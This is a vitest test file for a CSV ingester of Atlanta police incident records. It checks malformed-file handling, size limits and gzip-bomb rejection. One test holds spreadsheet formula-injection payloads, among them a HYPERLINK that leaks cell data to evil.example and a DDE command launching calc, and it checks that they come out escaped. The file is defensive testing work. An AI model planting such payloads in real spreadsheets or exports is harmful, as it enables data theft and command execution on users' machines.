import { readdirSync } from 'node:fs'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { renderRejectsCsv } from '../../src/ingest/index.js'
import type { FileErrorCode, IngestSummary, RuleId } from '../../src/ingest/index.js'
import { ATLANTA_BBOX, FIXTURES, csv, ingestAll } from './helpers.js'

const BAD = join(FIXTURES, 'bad')

/** What a bad file must produce: a file error at a line, or exactly these row rejects. */
type Expected =
  | { readonly error: FileErrorCode; readonly line: number | null; readonly accepted?: number }
  | {
      readonly rejects: ReadonlyArray<readonly [line: number, rule: RuleId]>
      readonly accepted: number
      readonly summary?: Partial<IngestSummary>
    }

// every file in test/fixtures/ingest/bad must appear here (checked below)
const CASES: Readonly<Record<string, Expected>> = {
  'empty.csv': { error: 'empty-file', line: null },
  'whitespace-only.csv': { error: 'empty-file', line: null },
  'bom-only.csv': { error: 'empty-file', line: null },
  'header-only.csv': { error: 'header-only', line: 1 },
  'header-then-blank-lines.csv': { error: 'header-only', line: 1 },
  'duplicate-headers.csv': { error: 'duplicate-headers', line: 1 },
  'duplicate-headers-case-space.csv': { error: 'duplicate-headers', line: 1 },
  'unclosed-quote-at-eof.csv': { error: 'unclosed-quote', line: 4, accepted: 2 },
  'unclosed-quote-mid-file.csv': { error: 'unclosed-quote', line: 3, accepted: 1 },
  // `"12 BROAD ST"X`: text after a closing quote rejects that row only. It used to fail the file
  // as unclosed-quote (papaparse read on for a closing quote that never came) and, with a quoted
  // field further down, to swallow every row up to it without a reject.
  'garbage-after-closing-quote.csv': { rejects: [[3, 'row.malformed']], accepted: 2 },
  'unknown-header.csv': { error: 'unknown-profile', line: 1 },
  'missing-lat-column.csv': { error: 'missing-columns', line: 1 },
  'xlsx-renamed-to-csv.csv': { error: 'unsupported-format', line: null },
  'binary-with-nul-bytes.csv': { error: 'unsupported-format', line: null },
  'truncated-gzip.csv.gz': { error: 'corrupt-gzip', line: null },
  'quote-inside-unquoted-field.csv': { rejects: [[3, 'row.malformed']], accepted: 2 },
  'ragged-rows.csv': {
    rejects: [
      [3, 'row.columns'],
      [4, 'row.columns'],
    ],
    accepted: 2,
  },
  'trailing-empty-header-columns.csv': { rejects: [[3, 'row.columns']], accepted: 1 },
  'null-na-markers.csv': { rejects: [[4, 'required']], accepted: 3 },
  'missing-category.csv': { rejects: [[2, 'required']], accepted: 0 },
  'swapped-lat-lon.csv': {
    rejects: [[3, 'coord.swapped']],
    accepted: 2,
    summary: { swappedFixed: 1 },
  },
  'projected-values-in-latlon.csv': { rejects: [[2, 'coord.wrong-crs']], accepted: 1 },
  'zero-zero.csv': {
    rejects: [],
    accepted: 4,
    summary: { withoutLocation: 3, withoutLocationZero: 2 },
  },
  'lat-91-lon-181.csv': {
    rejects: [
      [2, 'coord.out-of-range'],
      [3, 'coord.swapped'],
    ],
    accepted: 1,
  },
  'outside-network-area.csv': { rejects: [[2, 'coord.outside-area']], accepted: 1 },
  'non-numeric-coordinates.csv': {
    rejects: [
      [2, 'coord.invalid'],
      [3, 'coord.invalid'],
    ],
    accepted: 1,
  },
  'impossible-date-0230.csv': {
    rejects: [
      [2, 'date.invalid'],
      [3, 'date.invalid'],
    ],
    accepted: 1,
  },
  'typo-year-0220.csv': { rejects: [[2, 'date.before-floor']], accepted: 1 },
  'typo-year-1922.csv': { rejects: [[2, 'date.before-floor']], accepted: 1 },
  'future-2099.csv': {
    rejects: [
      [2, 'date.future'],
      [3, 'date.future'],
    ],
    accepted: 0,
  },
  'time-24-00.csv': {
    rejects: [
      [3, 'date.invalid'],
      [4, 'date.invalid'],
    ],
    accepted: 1,
  },
  'invalid-times.csv': {
    rejects: [
      [2, 'date.invalid'],
      [3, 'date.invalid'],
    ],
    accepted: 2,
  },
  'dst-gap-spring-forward.csv': { rejects: [], accepted: 1, summary: { dstGapShifted: 1 } },
  'dst-overlap-fall-back.csv': { rejects: [], accepted: 1, summary: { dstAmbiguous: 1 } },
  'window-inverted.csv': {
    rejects: [
      [2, 'date.window-inverted'],
      [3, 'date.window-inverted'],
    ],
    accepted: 1,
  },
  'occurred-after-report.csv': { rejects: [[2, 'date.after-report']], accepted: 1 },
  'possible-end-after-report.csv': {
    rejects: [],
    accepted: 1,
    summary: { windowClampedToReport: 1 },
  },
  'duplicate-offense-ids.csv': { rejects: [], accepted: 3, summary: { duplicates: 1 } },
  'formula-payloads.csv': {
    rejects: [
      [2, 'date.invalid'],
      [3, 'date.invalid'],
      [4, 'coord.invalid'],
      [5, 'date.invalid'],
      [6, 'date.invalid'],
    ],
    accepted: 0,
  },
  'unmapped-category.csv': {
    rejects: [],
    accepted: 3,
    summary: {
      unmapped: [
        { key: 'JAYWALKING', count: 1 },
        { key: 'jaywalking', count: 1 },
      ],
    },
  },
  'utf16le-with-bom.csv': {
    rejects: [],
    accepted: 2,
    summary: { encoding: 'utf-16le', bom: true },
  },
  'utf16be-with-bom.csv': {
    rejects: [],
    accepted: 2,
    summary: { encoding: 'utf-16be', bom: true },
  },
  'utf16le-without-bom.csv': {
    rejects: [],
    accepted: 2,
    summary: { encoding: 'utf-16le', bom: false },
  },
  'windows-1252-e-acute.csv': { rejects: [], accepted: 2, summary: { encoding: 'windows-1252' } },
  'utf8-bom-spaced-headers.csv': {
    rejects: [],
    accepted: 1,
    summary: { bom: true, profile: 'apd-cobra-2020' },
  },
  'semicolon-decimal-comma.csv': { rejects: [], accepted: 2, summary: { delimiter: ';' } },
  'tab-delimited.tsv': { rejects: [], accepted: 2, summary: { delimiter: '\t' } },
  'pipe-delimited.csv': { rejects: [], accepted: 2, summary: { delimiter: '|' } },
  'crlf-inside-quotes.csv': {
    rejects: [
      [7, 'row.columns'],
      [8, 'coord.invalid'],
    ],
    accepted: 2,
  },
  'lf-inside-quotes-crlf-rows.csv': { rejects: [[5, 'coord.invalid']], accepted: 1 },
  'cr-only-line-endings.csv': { rejects: [[3, 'coord.invalid']], accepted: 2 },
}

describe('bad-file corpus', () => {
  it('lists every file of the corpus, and at least 40', () => {
    const files = readdirSync(BAD).filter((f) => f !== 'README.md')
    expect(files.sort()).toEqual(Object.keys(CASES).sort())
    expect(files.length).toBeGreaterThanOrEqual(40)
  })

  it.each(Object.entries(CASES))('%s', async (file, expected) => {
    const outcome = await ingestAll(join(BAD, file), { bbox: ATLANTA_BBOX })
    if ('error' in expected) {
      expect(outcome.error?.name).toBe('IngestFileError')
      expect(outcome.error?.code).toBe(expected.error)
      expect(outcome.error?.line).toBe(expected.line)
      expect(outcome.summary.status).toBe('failed')
      expect(outcome.summary.fileError?.code).toBe(expected.error)
      expect(outcome.summary.accepted).toBe(expected.accepted ?? 0)
      return
    }
    expect(outcome.error).toBeUndefined()
    expect(outcome.summary.status).toBe('complete')
    expect(outcome.rejects.map((r) => [r.line, r.rule])).toEqual(expected.rejects)
    expect(outcome.incidents).toHaveLength(expected.accepted)
    const s = outcome.summary
    expect(s.accepted + s.rejected + s.duplicates).toBe(s.rowsRead)
    expect(s).toMatchObject(expected.summary ?? {})
  })
})

describe('bad files generated in the test', () => {
  const header =
    'offense_id,rpt_date,occur_date,occur_time,poss_date,poss_time,beat,location,ibr_code,UC2_Literal,neighborhood,npu,lat,long'
  const row = (id: number, location = '12 BROAD ST SW') =>
    `22${id},7/20/2022,7/20/2022,18:30,7/20/2022,19:00,507,${location},23H,LARCENY-NON VEHICLE,Downtown,M,33.7537,-84.391`

  it('refuses a 10 MB field as record-too-large at its line, keeping what came before', async () => {
    const text = [header, row(1), row(2, 'A'.repeat(10 * 1024 * 1024)), row(3), ''].join('\n')
    const outcome = await ingestAll(csv(text))
    expect(outcome.error?.code).toBe('record-too-large')
    expect(outcome.error?.line).toBe(3)
    expect(outcome.summary.accepted).toBe(1)
    expect(outcome.summary.status).toBe('failed')
  })

  it('refuses 100,000 columns as too-many-columns', async () => {
    const wide = Array.from({ length: 100_000 }, (_, i) => `c${i}`).join(',')
    const outcome = await ingestAll(csv(`${wide}\n1,2\n`))
    expect(outcome.error?.code).toBe('too-many-columns')
    expect(outcome.error?.line).toBe(1)
  })

  it('stops a gzip bomb by ratio long before it is inflated', async () => {
    const bomb = gzipSync(Buffer.alloc(64 * 1024 * 1024, 0x41), { level: 9 })
    expect(bomb.length).toBeLessThan(100_000)
    const outcome = await ingestAll(bomb)
    expect(outcome.error?.code).toBe('compression-ratio')
    expect(outcome.summary.compressed).toBe(true)
    expect(outcome.summary.textBytes).toBeLessThan(8 * 1024 * 1024)
  })

  it('stops at the decompressed-bytes cap', async () => {
    const rows = Array.from({ length: 3000 }, (_, i) => row(i)).join('\n')
    const outcome = await ingestAll(gzipSync(`${header}\n${rows}\n`), {
      limits: { maxBytes: 100_000 },
    })
    expect(outcome.error?.code).toBe('too-large')
    expect(outcome.summary.textBytes).toBeLessThan(200_000)
  })

  it('stops past the row cap with an error that says so', async () => {
    const rows = Array.from({ length: 10 }, (_, i) => row(i)).join('\n')
    const outcome = await ingestAll(csv(`${header}\n${rows}\n`), {
      limits: { maxRows: 3 },
      batchSize: 2,
    })
    expect(outcome.error?.code).toBe('too-many-rows')
    expect(outcome.error?.message).toContain('more than 3 data rows')
    expect(outcome.error?.line).toBe(5)
    expect(outcome.summary.status).toBe('failed')
  })

  it('rejects only the row with text after a closing quote; no row vanishes', async () => {
    const rows = [row(1, '"12 BROAD ST"X'), row(2), row(3), row(4, '"5 OAK ST"'), row(5)]
    const outcome = await ingestAll(csv([header, ...rows, ''].join('\n')))
    expect(outcome.rejects.map((r) => [r.line, r.rule])).toEqual([[2, 'row.malformed']])
    expect(outcome.summary).toMatchObject({ status: 'complete', rowsRead: 5, accepted: 4 })
  })

  it.each([
    ['a CRLF header, then LF rows', `${header}\r\n${[row(1), row(2), row(3)].join('\n')}\n`],
    [
      'an LF header, then CRLF rows with a quoted last field',
      `${header}\n${[row(1), row(2), row(3)].map((r) => r.replace(/,([^,]*)$/, ',"$1"')).join('\r\n')}\r\n`,
    ],
    ['CR, LF and CRLF in turn', `${header}\r${row(1)}\n${row(2)}\r\n${row(3)}\r`],
  ])('reads every row of %s', async (_, text) => {
    const outcome = await ingestAll(csv(text))
    expect(outcome.rejects).toEqual([])
    expect(outcome.summary).toMatchObject({ status: 'complete', rowsRead: 3, accepted: 3 })
  })

  it('reads a ; file with blank lines before its header, with header errors at its line', async () => {
    const semi = (line: string) => line.replaceAll(',', ';')
    const good = await ingestAll(csv(`\n  \n${semi(header)}\n${semi(row(1))}\n`))
    expect(good.error).toBeUndefined()
    expect(good.summary).toMatchObject({ delimiter: ';', rowsRead: 1, accepted: 1 })
    const missing = await ingestAll(csv(`\n\n${semi(header.replace(',lat,', ',latx,'))}\n`))
    expect(missing.error).toMatchObject({ code: 'missing-columns', line: 3 })
    const only = await ingestAll(csv(`\r\n${header}\r\n\r\n`))
    expect(only.error).toMatchObject({ code: 'header-only', line: 2 })
    const repeated = await ingestAll(csv(`\n${header},beat\n${row(1)}\n`))
    expect(repeated.error).toMatchObject({ code: 'duplicate-headers', line: 2 })
  })

  it('returns formula payloads escaped in the rejects CSV', async () => {
    const outcome = await ingestAll(join(BAD, 'formula-payloads.csv'), { bbox: ATLANTA_BBOX })
    const report = renderRejectsCsv(outcome.rejects)
    const values = outcome.rejects.map((r) => r.value)
    expect(values).toContain('=HYPERLINK("http://evil.example/?q="&A1,"Click")')
    expect(report).toContain(`"'=HYPERLINK(""http://evil.example/?q=""&A1,""Click"")"`)
    expect(report).toContain(`'+cmd|' /C calc'!A0`)
    expect(report).toContain(`'@SUM(1+1)`)
    expect(report).toContain(`,'-1,`)
    const cells = parse(report, { from_line: 2 }).flat() as string[]
    expect(cells.filter((cell) => /^[=+@\t\r-]/.test(cell))).toEqual([])
  })
})
